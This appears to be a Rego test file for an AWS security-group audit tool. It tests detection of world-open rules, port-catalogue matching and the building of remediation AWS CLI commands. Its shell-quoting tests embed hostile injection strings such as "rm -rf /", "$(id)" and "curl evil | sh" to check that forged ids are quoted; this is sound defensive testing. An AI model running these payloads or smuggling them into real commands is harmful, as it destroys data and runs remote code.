package sgaudit.lib.sg_test

import data.sgaudit.lib.net
import data.sgaudit.lib.sg

group := {
	"arn": "arn:aws:ec2:eu-west-1:111111111111:security-group/sg-1",
	"id": "sg-1",
	"name": "web",
	"description": "web servers",
	"account_id": "111111111111",
	"region": "eu-west-1",
	"vpc_id": "vpc-1",
	"is_default": false,
	"rules": [],
	"attachments": [],
	"used_by": [],
}

with_rules(rules) := object.union(group, {"rules": rules})

rule(id, dir, proto, from, to, peer) := {
	"id": id,
	"direction": dir,
	"protocol": proto,
	"from_port": from,
	"to_port": to,
	"peer": peer,
	"description": "",
}

v4(cidr) := {"kind": "cidr_ipv4", "cidr": cidr}

v6(cidr) := {"kind": "cidr_ipv6", "cidr": cidr}

coverage := [
	{"account_id": "111111111111", "region": "eu-west-1", "status": "ok", "collected": ["security_groups", "network_interfaces", "security_group_rules"]},
	{"account_id": "111111111111", "region": "us-east-1", "status": "ok", "collected": ["security_groups"]},
	{"account_id": "222222222222", "region": "eu-west-1", "status": "denied", "collected": []},
]

# collected / kinds_checked

test_collected_per_region if {
	sg.collected(group, "network_interfaces") with input.coverage as coverage
	sg.collected(group, "security_groups") with input.coverage as coverage
}

test_collected_other_region_does_not_count if {
	us := object.union(group, {"region": "us-east-1"})
	not sg.collected(us, "network_interfaces") with input.coverage as coverage
	other := object.union(group, {"account_id": "222222222222"})
	not sg.collected(other, "security_groups") with input.coverage as coverage
}

test_collected_without_coverage if {
	not sg.collected(group, "network_interfaces") with input as {}
}

test_kinds_checked_sorted if {
	got := sg.kinds_checked(group) with input.coverage as coverage
	got == ["network_interfaces", "security_group_rules", "security_groups"]
}

test_kinds_checked_without_network_kinds if {
	with_network := [object.union(coverage[0], {"collected": array.concat(coverage[0].collected, ["subnets", "route_tables", "load_balancers"])})]
	got := sg.kinds_checked(group) with input.coverage as with_network
	got == ["network_interfaces", "security_group_rules", "security_groups"]
}

test_kinds_checked_nothing if {
	other := object.union(group, {"account_id": "222222222222"})
	got := sg.kinds_checked(other) with input.coverage as coverage
	got == []
}

# vpc_interface_count

test_vpc_interface_count if {
	vpcs := [
		{"id": "vpc-1", "account_id": "111111111111", "region": "eu-west-1", "network_interfaces": 3},
		{"id": "vpc-1", "account_id": "111111111111", "region": "us-east-1", "network_interfaces": 0},
	]
	sg.vpc_interface_count(group) == 3 with input.vpcs as vpcs
	not sg.vpc_interface_count(object.union(group, {"vpc_id": "vpc-9"})) with input.vpcs as vpcs
}

# world_ingress

test_world_ingress_selects_world_ingress_only if {
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0")),
		rule("sgr-2", "ingress", "tcp", 22, 22, v6("::/0")),
		rule("sgr-3", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
		rule("sgr-4", "ingress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-1"}),
		rule("sgr-5", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
		rule("sgr-6", "ingress", "tcp", 22, 22, {"kind": "prefix_list", "prefix_list_id": "pl-1"}),
	])
	ids := {r.id | some r in sg.world_ingress(g)}
	ids == {"sgr-1", "sgr-2"}
}

test_world_port_rules_indexes_groups_by_position if {
	g0 := with_rules([
		rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0")),
		rule("sgr-2", "ingress", "all", 0, 65535, v6("::/0")),
		rule("sgr-3", "ingress", "udp", 53, 53, v6("0:0:0:0:0:0:0:0/0")),
		rule("sgr-4", "ingress", "icmp", -1, -1, v4("0.0.0.0/0")),
		rule("sgr-5", "ingress", "47", -1, -1, v4("0.0.0.0/0")),
		rule("sgr-6", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
		rule("sgr-7", "egress", "tcp", 22, 22, v4("0.0.0.0/0")),
		rule("sgr-8", "ingress", "tcp", 22, 22, {"kind": "security_group", "group_id": "sg-1"}),
		rule("sgr-9", "ingress", "tcp", 22, 22, {"kind": "prefix_list", "prefix_list_id": "pl-1"}),
	])
	g1 := with_rules([rule("sgr-a", "ingress", "tcp", 443, 443, v4("10.0.0.0/8"))])
	g2 := with_rules([rule("sgr-b", "ingress", "tcp", 443, 443, v4("0.0.0.0/0"))])
	got := sg.world_port_rules with input.security_groups as [g0, g1, g2, object.union(group, {"rules": null})]
	{i: {r.id | some r in rules} | some i, rules in got} == {0: {"sgr-1", "sgr-2", "sgr-3"}, 2: {"sgr-b"}}
}

test_world_port_rules_agrees_with_net_helpers if {
	# world_port_rules inlines net.is_world_peer and net.carries_ports; the
	# two must not drift apart.
	cidrs := ["0.0.0.0/0", "::/0", "0:0:0:0:0:0:0:0/0", "10.0.0.0/0", "0.0.0.0/1", "10.0.0.0/8", "::/1"]
	protocols := ["tcp", "udp", "all", "icmp", "icmpv6", "47"]
	rules := [rule(sprintf("%s %s", [c, p]), "ingress", p, 22, 22, peer) |
		some c in cidrs
		some p in protocols
		peer := {"kind": kind(c), "cidr": c}
	]
	got := {r.id | some r in sg.world_port_rules[0]} with input.security_groups as [with_rules(rules)]
	got == {r.id | some r in rules; net.is_world_peer(r.peer); net.carries_ports(r)}
	count(got) == 12
}

test_short_rules_keep_the_world_and_sga016_candidates if {
	# /0-/9 for the world; ingress shorter than SGA016's largest limits
	# (IPv4 16, IPv6 32 by default) for it; egress only /1-/9.
	g := with_rules([
		rule("in-0", "ingress", "tcp", 22, 22, v4("0.0.0.0/0")),
		rule("in-9", "ingress", "tcp", 22, 22, v4("10.0.0.0/9")),
		rule("in-15", "ingress", "tcp", 22, 22, v4("10.0.0.0/15")),
		rule("in-16", "ingress", "tcp", 22, 22, v4("10.0.0.0/16")),
		rule("in-v6-31", "ingress", "tcp", 22, 22, v6("2600::/31")),
		rule("in-v6-32", "ingress", "tcp", 22, 22, v6("2600::/32")),
		rule("in-v4-mapped", "ingress", "tcp", 22, 22, v6("::ffff:10.0.0.0/104")),
		rule("eg-0", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
		rule("eg-9", "egress", "tcp", 22, 22, v4("10.0.0.0/9")),
		rule("eg-12", "egress", "tcp", 22, 22, v4("10.0.0.0/12")),
	])
	got := {r.id | some r in sg.short_rules[0]} with input.security_groups as [g]
	got == {"in-0", "in-9", "in-15", "in-v6-31", "eg-9"}
}

test_short_pattern_follows_the_sga016_limits if {
	limits := {"risky_ports": {"ipv4": 24, "ipv6": 8}, "other_ports": {"ipv4": 1, "ipv6": 1}}
	p := sg.short_pattern with data.sgaudit.wide_public_ranges as limits
	every c in ["0.0.0.0/0", "10.0.0.0/23", "::/0", "::/9"] {
		regex.match(p, c)
	}
	every c in ["10.0.0.0/24", "::/10", "2600::/23"] {
		not regex.match(p, c)
	}
}

test_short_pattern_without_sga016_data_is_the_world_alone if {
	p := sg.short_pattern with data.sgaudit.wide_public_ranges as {}
	regex.match(p, "10.0.0.0/9")
	regex.match(p, "::/9")
	not regex.match(p, "10.0.0.0/10")
	not regex.match(p, "::/10")
}

kind(c) := "cidr_ipv6" if contains(c, ":")

else := "cidr_ipv4"

test_world_ingress_null_rules if {
	sg.world_ingress(object.union(group, {"rules": null})) == []
}

# public_attachments / has_attachments

test_public_attachments if {
	g := object.union(group, {"attachments": [
		{"network_interface_id": "eni-1", "interface_type": "interface", "public_ip": "203.0.113.7", "resource": "i-1"},
		{"network_interface_id": "eni-2", "interface_type": "interface", "resource": "i-2"},
		{"network_interface_id": "eni-3", "interface_type": "lambda", "public_ip": "", "resource": "Lambda"},
		{"network_interface_id": "eni-4", "interface_type": "interface", "public_ip": "203.0.113.8"},
	]})
	sg.public_attachments(g) == [
		{"network_interface_id": "eni-1", "public_ip": "203.0.113.7", "resource": "i-1"},
		{"network_interface_id": "eni-4", "public_ip": "203.0.113.8", "resource": ""},
	]
	sg.has_attachments(g)
}

test_no_attachments if {
	sg.public_attachments(group) == []
	not sg.has_attachments(group)
	not sg.has_attachments(object.union(group, {"attachments": null}))
	not sg.has_attachments(object.remove(group, ["attachments"]))
}

# is_aws_default_egress / has_description

test_aws_default_egress if {
	sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, v4("0.0.0.0/0")))
	sg.is_aws_default_egress(rule("sgr-2", "egress", "all", 0, 65535, v6("::/0")))
}

test_aws_default_egress_any_spelling_of_the_world if {
	sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, v6("0:0:0:0:0:0:0:0/0")))
	sg.is_aws_default_egress(rule("sgr-2", "egress", "all", 0, 65535, v4("10.0.0.0/0")))
	not sg.is_aws_default_egress(rule("sgr-3", "egress", "all", 0, 65535, v4("0.0.0.0/1")))
	not sg.is_aws_default_egress(rule("sgr-4", "egress", "all", 0, 65535, {"kind": "prefix_list", "prefix_list_id": "pl-1"}))
}

test_not_aws_default_egress if {
	not sg.is_aws_default_egress(rule("sgr-1", "ingress", "all", 0, 65535, v4("0.0.0.0/0")))
	not sg.is_aws_default_egress(rule("sgr-1", "egress", "tcp", 0, 65535, v4("0.0.0.0/0")))
	not sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, v4("10.0.0.0/8")))
	not sg.is_aws_default_egress(rule("sgr-1", "egress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-2"}))
	described := object.union(rule("sgr-1", "egress", "all", 0, 65535, v4("0.0.0.0/0")), {"description": "internet"})
	not sg.is_aws_default_egress(described)
}

test_has_description if {
	sg.has_description({"description": "ssh from the office"})
	not sg.has_description({"description": ""})
	not sg.has_description({"description": " \t"})
	not sg.has_description({"description": null})
	not sg.has_description({})
}

# shell quoting

test_shell_quote if {
	sg.shell_quote("web") == "'web'"
	sg.shell_quote("a b") == "'a b'"
	sg.shell_quote("x'; rm -rf / #") == `'x'\''; rm -rf / #'`
	sg.shell_quote("$(id)") == "'$(id)'"
}

test_shell_word_leaves_aws_ids_bare if {
	every w in ["sg-0123abcd", "sgr-0a1b", "eu-west-1", "vpc-1", "0.0.0.0/0", "2001:db8::/32", "pl-1"] {
		sg.shell_word(w) == w
	}
}

test_shell_word_quotes_the_rest if {
	sg.shell_word("sg-1; curl evil|sh") == "'sg-1; curl evil|sh'"
	sg.shell_word("$(id)") == "'$(id)'"
	sg.shell_word("-rf") == "'-rf'"
	sg.shell_word("") == "''"
}

# remediation commands (exact AWS CLI; the shapes are the contract)

test_revoke_by_rule_id if {
	r := rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0"))
	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-1"
}

test_revoke_egress_by_rule_id if {
	r := rule("sgr-2", "egress", "all", 0, 65535, v4("0.0.0.0/0"))
	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-2"
}

test_revoke_without_id_ipv4 if {
	r := rule("", "ingress", "tcp", 22, 22, v4("0.0.0.0/0"))
	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/0}]'"
}

test_revoke_without_id_ipv6_all_traffic if {
	r := rule("", "ingress", "all", 0, 65535, v6("::/0"))
	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=-1,Ipv6Ranges=[{CidrIpv6=::/0}]'"
}

test_revoke_without_id_prefix_list if {
	r := rule("", "egress", "tcp", 443, 443, {"kind": "prefix_list", "prefix_list_id": "pl-1"})
	sg.revoke_command(group, r) == "aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=443,ToPort=443,PrefixListIds=[{PrefixListId=pl-1}]'"
}

test_revoke_without_id_group_reference if {
	same := rule("", "ingress", "udp", 53, 53, {"kind": "security_group", "group_id": "sg-2", "group_owner": "111111111111"})
	sg.revoke_command(group, same) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=udp,FromPort=53,ToPort=53,UserIdGroupPairs=[{GroupId=sg-2}]'"
	cross := rule("", "ingress", "udp", 53, 53, {"kind": "security_group", "group_id": "sg-2", "group_owner": "222222222222"})
	sg.revoke_command(group, cross) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=udp,FromPort=53,ToPort=53,UserIdGroupPairs=[{UserId=222222222222,GroupId=sg-2}]'"
}

test_revoke_without_id_icmp_and_numbered if {
	icmp := rule("", "ingress", "icmp", 8, -1, v4("0.0.0.0/0"))
	sg.revoke_command(group, icmp) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=icmp,FromPort=8,ToPort=-1,IpRanges=[{CidrIp=0.0.0.0/0}]'"
	gre := rule("", "ingress", "47", -1, -1, v4("0.0.0.0/0"))
	sg.revoke_command(group, gre) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=47,IpRanges=[{CidrIp=0.0.0.0/0}]'"
}

test_revoke_quotes_forged_ids if {
	g := object.union(group, {"id": "sg-1 --dry-run; id"})
	r := rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/0"))
	sg.revoke_command(g, r) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id 'sg-1 --dry-run; id' --security-group-rule-ids sgr-1"
}

test_revoke_all_by_ids_per_direction if {
	g := with_rules([
		rule("sgr-b", "ingress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-1"}),
		rule("sgr-a", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
		rule("sgr-c", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
	])
	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-a sgr-b && aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-c"
}

test_revoke_all_one_direction if {
	g := with_rules([rule("sgr-c", "egress", "all", 0, 65535, v4("0.0.0.0/0"))])
	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-c"
}

test_revoke_all_without_ids if {
	g := with_rules([
		rule("", "ingress", "all", 0, 65535, {"kind": "security_group", "group_id": "sg-1"}),
		rule("", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
	])
	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=-1,UserIdGroupPairs=[{GroupId=sg-1}]' 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=10.0.0.0/8}]'"
}

# The fast path needs every id; one rule without takes the general way for
# its direction only.
test_revoke_all_some_without_ids if {
	g := with_rules([
		rule("", "ingress", "tcp", 22, 22, v4("10.0.0.0/8")),
		rule("sgr-c", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
	])
	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=10.0.0.0/8}]' && aws ec2 revoke-security-group-egress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-c"
}

# A forged id in imported JSON is quoted, not pasted into the command.
test_revoke_all_quotes_forged_ids if {
	g := with_rules([rule("sgr-1; rm -rf ~", "ingress", "tcp", 22, 22, v4("10.0.0.0/8"))])
	sg.revoke_all_command(g) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --security-group-rule-ids 'sgr-1; rm -rf ~'"
}

test_describe_rule_command if {
	r := rule("sgr-1", "ingress", "tcp", 22, 22, v4("10.0.0.0/8"))
	sg.describe_rule_command(group, r) == `aws ec2 update-security-group-rule-descriptions-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=10.0.0.0/8,Description="<why this rule exists>"}]'`
}

test_describe_rule_command_egress_group_peer if {
	r := rule("", "egress", "tcp", 5432, 5432, {"kind": "security_group", "group_id": "sg-db"})
	sg.describe_rule_command(group, r) == `aws ec2 update-security-group-rule-descriptions-egress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=5432,ToPort=5432,UserIdGroupPairs=[{GroupId=sg-db,Description="<why this rule exists>"}]'`
}

test_delete_command if {
	sg.delete_command(group) == "aws ec2 delete-security-group --region eu-west-1 --group-id sg-1"
}

test_replacement_command if {
	sg.replacement_command(group) == `aws ec2 create-security-group --region eu-west-1 --vpc-id vpc-1 --group-name 'web-v2' --description "<what this group is for>"`
}

test_replacement_command_quotes_hostile_name if {
	g := object.union(group, {"name": "x'; curl evil | sh; echo '"})
	sg.replacement_command(g) == `aws ec2 create-security-group --region eu-west-1 --vpc-id vpc-1 --group-name 'x'\''; curl evil | sh; echo '\''-v2' --description "<what this group is for>"`
}

test_replacement_command_without_vpc if {
	g := object.union(group, {"vpc_id": ""})
	sg.replacement_command(g) == `aws ec2 create-security-group --region eu-west-1 --group-name 'web-v2' --description "<what this group is for>"`
}

test_label if {
	sg.label(group) == "sg-1 (web)"
}

test_target_quotes_forged_region_and_id if {
	sg.target(group) == "--region eu-west-1 --group-id sg-1"
	g := object.union(group, {"region": "eu-west-1 $(id)", "id": "sg-1"})
	sg.target(g) == "--region 'eu-west-1 $(id)' --group-id sg-1"
	g2 := object.union(group, {"id": "sg 1"})
	sg.target(g2) == "--region eu-west-1 --group-id 'sg 1'"
}

test_direction_outside_the_contract_gives_no_command if {
	with_id := rule("sgr-1", "sideways", "tcp", 22, 22, v4("0.0.0.0/0"))
	without_id := rule("", "sideways", "tcp", 22, 22, v4("0.0.0.0/0"))
	sg.revoke_command(group, with_id) == ""
	sg.revoke_command(group, without_id) == ""
	sg.describe_rule_command(group, with_id) == ""
}

# The world: prefix lists and CIDR sets (world_port_rules, world_source)

pl_peer(id) := {"kind": "prefix_list", "prefix_list_id": id}

prefix_list(id, cidrs) := {
	"id": id, "name": "", "owner": "111111111111", "account_id": "111111111111", "region": "eu-west-1",
	"entries": [{"cidr": c} | some c in cidrs],
}

world_ids(groups, lists) := {i: {r.id | some r in rules} | some i, rules in got} if {
	got := sg.world_port_rules with input as {"security_groups": groups, "prefix_lists": lists}
}

test_world_port_rules_expand_prefix_lists if {
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 22, 22, pl_peer("pl-world")),
		rule("sgr-2", "ingress", "tcp", 22, 22, pl_peer("pl-corp")),
		rule("sgr-3", "ingress", "tcp", 22, 22, pl_peer("pl-unknown")),
		rule("sgr-4", "ingress", "icmp", -1, -1, pl_peer("pl-world")),
		rule("sgr-5", "egress", "tcp", 22, 22, pl_peer("pl-world")),
	])
	lists := [prefix_list("pl-world", ["192.0.2.0/24", "0.0.0.0/0"]), prefix_list("pl-corp", ["10.0.0.0/8"])]
	world_ids([g], lists) == {0: {"sgr-1"}}
}

test_world_port_rules_add_cidr_sets if {
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 22, 22, v4("128.0.0.0/1")),
		rule("sgr-2", "ingress", "tcp", 22, 22, v4("0.0.0.0/1")),
		rule("sgr-3", "ingress", "tcp", 443, 443, v4("0.0.0.0/0")),
	])
	world_ids([with_rules([]), g], []) == {1: {"sgr-1", "sgr-3"}}
}

test_world_egress_pairs if {
	g := with_rules([
		rule("sgr-1", "egress", "all", 0, 65535, v4("0.0.0.0/0")),
		rule("sgr-2", "egress", "tcp", 443, 443, v6("::/1")),
		rule("sgr-3", "egress", "tcp", 443, 443, v6("8000::/1")),
		rule("sgr-4", "ingress", "all", 0, 65535, v4("0.0.0.0/0")),
		rule("sgr-5", "egress", "icmp", -1, -1, v4("0.0.0.0/0")),
	])
	got := sg.world_egress_pairs with input.security_groups as [g]
	{[i, r.id] | some [i, r, _] in got} == {[0, "sgr-1"], [0, "sgr-2"]}
}

# sources[rule id] is the full source (sg.world_source) of each world pair
# of group 0.
sources(doc) := got if {
	pairs := sg.world_port_pairs with input as doc
	got := {r.id: sg.world_source(r, source) | some [0, r, source] in pairs}
}

test_world_sources if {
	direct := rule("sgr-1", "ingress", "tcp", 22, 22, v6("::/0"))
	listed := rule("sgr-2", "ingress", "tcp", 22, 22, pl_peer("pl-1"))
	half1 := rule("sgr-3", "ingress", "udp", 53, 53, v4("0.0.0.0/1"))
	half2 := object.remove(rule("sgr-4", "ingress", "udp", 53, 53, v4("128.0.0.0/1")), ["id"])
	doc := {"security_groups": [with_rules([direct, listed, half1, half2])], "prefix_lists": [prefix_list("pl-1", ["0.0.0.0/1", "128.0.0.0/1"])]}
	got := sources(doc)

	# The second half is a member of the set, not a world rule of its own.
	{id | some id, _ in got} == {"sgr-1", "sgr-2", "sgr-3"}

	got["sgr-1"] == {"peer": "::/0", "rules": [direct], "evidence": {"peer": "::/0", "world_via": "cidr", "ip_family": "IPv6"}}
	got["sgr-2"] == {"peer": "pl-1 (covers 0.0.0.0/0)", "rules": [listed], "evidence": {
		"peer": "pl-1 (covers 0.0.0.0/0)", "world_via": "prefix_list", "ip_family": "IPv4",
		"prefix_list": {"id": "pl-1", "name": "", "world_cidrs": ["0.0.0.0/0"]},
	}}
	got["sgr-3"] == {"peer": "0.0.0.0/1 + 128.0.0.0/1", "rules": [half1, half2], "evidence": {
		"peer": "0.0.0.0/1 + 128.0.0.0/1", "world_via": "cidr_union", "ip_family": "IPv4",
		"cidrs": ["0.0.0.0/1", "128.0.0.0/1"], "rule_ids": ["sgr-3", ""],
	}}
}

test_prefix_list_named if {
	r := rule("sgr-1", "ingress", "tcp", 22, 22, pl_peer("pl-1"))
	lists := [object.union(prefix_list("pl-1", ["::/0", "0.0.0.0/0"]), {"name": "anyone"})]
	got := sources({"security_groups": [with_rules([r])], "prefix_lists": lists})
	got["sgr-1"].peer == "pl-1 (anyone, covers 0.0.0.0/0 and ::/0)"
	got["sgr-1"].evidence.ip_family == "IPv4, IPv6"
}

test_world_unions_are_per_group_and_deduplicated if {
	rules := [
		rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/1")),
		rule("sgr-2", "ingress", "tcp", 22, 22, v4("128.0.0.0/1")),
	]
	got := sg.world_unions with input.security_groups as [with_rules(rules), with_rules([rules[0]])]
	{i: [u.rule.id | some u in unions] | some i, unions in got} == {0: ["sgr-1"]}
}

# world_ports / world_port_hits / world_reach / catalogue_hits

test_world_ports_group_pairs_by_protocol_and_ports if {
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 443, 443, v4("0.0.0.0/0")),
		rule("sgr-2", "ingress", "tcp", 443, 443, v6("::/0")),
		rule("sgr-3", "ingress", "udp", 443, 443, v4("0.0.0.0/0")),
		rule("sgr-4", "ingress", "all", -1, -1, v4("0.0.0.0/0")),
		rule("sgr-5", "ingress", "tcp", 443, 443, v4("10.0.0.0/8")),
	])
	got := sg.world_ports with input.security_groups as [g, with_rules([rule("sgr-6", "ingress", "tcp", 443, 443, v4("0.0.0.0/0"))])]
	{ports: {[i, r.id] | some [i, r, _] in pairs} | some ports, pairs in got} == {
		["tcp", 443, 443]: {[0, "sgr-1"], [0, "sgr-2"], [1, "sgr-6"]},
		["udp", 443, 443]: {[0, "sgr-3"]},
		["all", -1, -1]: {[0, "sgr-4"]},
	}
}

test_world_port_hits_once_per_ports if {
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 443, 443, v4("0.0.0.0/0")),
		rule("sgr-2", "ingress", "tcp", 22, 22, v4("0.0.0.0/0")),
		rule("sgr-3", "ingress", "tcp", 22, 22, v6("::/0")),
		rule("sgr-4", "ingress", "all", -1, -1, v4("0.0.0.0/0")),
	])
	got := sg.world_port_hits with input.security_groups as [g]

	# HTTPS reaches nothing; all traffic, the whole catalogue.
	{ports | some ports, _ in got} == {["tcp", 22, 22], ["all", -1, -1]}
	{e.service | some e in got[["tcp", 22, 22]].admin} == {"SSH"}
	got[["all", -1, -1]] == sg.catalogue_by_category
}

test_world_port_hits_all_traffic_with_an_empty_catalogue if {
	got := sg.world_port_hits with input.security_groups as [with_rules([rule("sgr-1", "ingress", "all", -1, -1, v4("0.0.0.0/0"))])]
		with data.sgaudit.ports as {"admin": []}
	got == {}
}

test_world_reach_indexes_catalogue_hits_by_category if {
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 443, 443, v4("0.0.0.0/0")),
		rule("sgr-2", "ingress", "udp", 22, 22, v4("0.0.0.0/0")),
		rule("sgr-3", "ingress", "tcp", 5400, 5500, v6("::/0")),
	])
	got := sg.world_reach with input.security_groups as [with_rules([rule("sgr-0", "ingress", "tcp", 443, 443, v4("0.0.0.0/0"))]), g]
	{[i, r.id, c, {e.service | some e in es}] | some [i, r, _, hits] in got; some c, es in hits} == {
		[1, "sgr-2", "admin", {"SSH"}],
		[1, "sgr-3", "database", {"PostgreSQL", "Redshift"}],
		[1, "sgr-3", "high_risk", {"VNC listener"}],
	}
}

test_world_reach_wide_entries if {
	catalogue := {"ephemeral": [{"service": "ephemeral", "protocols": ["tcp"], "from_port": 1024, "to_port": 65535}]}
	g := with_rules([
		rule("sgr-1", "ingress", "tcp", 8080, 8080, v4("0.0.0.0/0")),
		rule("sgr-2", "ingress", "tcp", 443, 443, v4("0.0.0.0/0")),
	])
	got := sg.world_reach with input.security_groups as [g] with data.sgaudit.ports as catalogue
	{r.id | some [_, r, _, _] in got} == {"sgr-1"}
}

test_catalogue_hits_single_port_protocols if {
	{[p[0], p[1].service] | some p in sg.catalogue_hits(rule("x", "ingress", "udp", 1434, 1434, v4("0.0.0.0/0")))} == {["database", "MSSQL Browser"]}
	sg.catalogue_hits(rule("x", "ingress", "tcp", 1434, 1434, v4("0.0.0.0/0"))) == []
}

test_catalogue_hits_wide_entries if {
	catalogue := {"ephemeral": [{"service": "ephemeral", "protocols": ["tcp"], "from_port": 1024, "to_port": 65535}]}
	hits := sg.catalogue_hits(rule("x", "ingress", "tcp", 8080, 8080, v4("0.0.0.0/0"))) with data.sgaudit.ports as catalogue
	[p[0] | some p in hits] == ["ephemeral"]
	sg.catalogue_hits(rule("x", "ingress", "tcp", 80, 80, v4("0.0.0.0/0"))) == [] with data.sgaudit.ports as catalogue
}

test_catalogue_by_category_groups_every_pair if {
	sg.catalogue_by_category == sg.by_category(sg.catalogue_pairs)
	count(sg.catalogue_by_category) == count(data.sgaudit.ports)
	custom := {"admin": [{"service": "SSH", "protocols": ["tcp"], "from_port": 22, "to_port": 22}], "none": []}
	sg.catalogue_by_category == {"admin": custom.admin} with data.sgaudit.ports as custom
	sg.by_category(sg.catalogue_pairs) == {"admin": custom.admin} with data.sgaudit.ports as custom
}

services_hit(r, catalogue) := {p[1].service | some p in hits} if {
	hits := sg.catalogue_hits(r) with data.sgaudit.ports as catalogue
}

test_catalogue_hits_all_traffic_and_ranges if {
	catalogue := {
		"admin": [{"service": "SSH", "protocols": ["tcp", "udp"], "from_port": 22, "to_port": 22}],
		"database": [
			{"service": "MSSQL Browser", "protocols": ["udp"], "from_port": 1434, "to_port": 1434},
			{"service": "PostgreSQL", "protocols": ["tcp"], "from_port": 5432, "to_port": 5432},
		],
	}

	# All traffic reaches every entry, whatever its ports say.
	services_hit(rule("x", "ingress", "all", 0, 0, v4("0.0.0.0/0")), catalogue) == {"SSH", "MSSQL Browser", "PostgreSQL"}

	# A range reaches the entries it overlaps, over their protocols.
	services_hit(rule("x", "ingress", "tcp", 0, 2000, v4("0.0.0.0/0")), catalogue) == {"SSH"}
	services_hit(rule("x", "ingress", "udp", 20, 5432, v4("0.0.0.0/0")), catalogue) == {"SSH", "MSSQL Browser"}

	# ICMP and other protocols carry no ports.
	services_hit(rule("x", "ingress", "icmp", 0, 65535, v4("0.0.0.0/0")), catalogue) == set()
	services_hit(rule("x", "ingress", "47", 0, 65535, v4("0.0.0.0/0")), catalogue) == set()
}

# revoke_rules_command / escalation / public_text

test_revoke_rules_command if {
	r1 := rule("sgr-1", "ingress", "tcp", 22, 22, v4("0.0.0.0/1"))
	r2 := rule("sgr-2", "ingress", "tcp", 22, 22, v4("128.0.0.0/1"))
	sg.revoke_rules_command(group, [r1]) == sg.revoke_command(group, r1)
	sg.revoke_rules_command(group, [r1, r2]) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --security-group-rule-ids sgr-1 sgr-2"
	sg.revoke_rules_command(group, [r1, object.union(r2, {"id": ""})]) == "aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/1}]' 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=128.0.0.0/1}]'"
}

test_escalation if {
	sg.escalation("open_admin_ports", []) == {}
	sg.escalation("open_admin_ports", [{"network_interface_id": "eni-1"}]) == {"severity": "CRITICAL"}
	sg.escalation("no_such_check", [{"network_interface_id": "eni-1"}]) == {"severity": "CRITICAL"}
	sg.escalation("open_admin_ports", [{}]) == {"severity": "HIGH"} with data.sgaudit.severities.open_admin_ports.public_interface as "HIGH"
}

test_public_text if {
	sg.public_text([]) == ""
	sg.public_text([
		{"network_interface_id": "eni-1", "public_ip": "203.0.113.1", "resource": "i-1"},
		{"network_interface_id": "eni-2", "public_ip": "203.0.113.2", "resource": ""},
	]) == "; the group is on 2 interface(s) with a public IP: eni-1 (203.0.113.1, i-1), eni-2 (203.0.113.2, no attached resource)"
}
